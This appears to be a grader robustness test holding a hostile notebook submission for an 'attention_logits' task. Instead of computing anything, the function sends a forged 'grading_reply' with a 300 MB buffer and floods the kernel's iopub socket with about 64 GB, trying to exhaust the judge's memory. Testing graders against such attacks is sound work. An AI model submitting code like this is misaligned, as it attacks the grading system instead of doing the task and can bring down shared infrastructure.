"""A reply of 300 MB in one frame, then a message of 64 GB; the judge's memory stays what it was."""
# part: 3
# earns: 0
# %%
import struct


def attention_logits(q, K, D_qk):
    kernel = get_ipython().kernel
    chunk = b"x" * (64 * 2**20)
    kernel.session.send(kernel.iopub_socket, "grading_reply", {"token": "x"}, buffers=[b"y" * (300 * 2**20)])
    kernel.iopub_thread._sock.sendall(struct.pack("<1001I", 1000, *[len(chunk)] * 1000))
    for _ in range(1000):
        kernel.iopub_thread._sock.sendall(chunk)
    return None
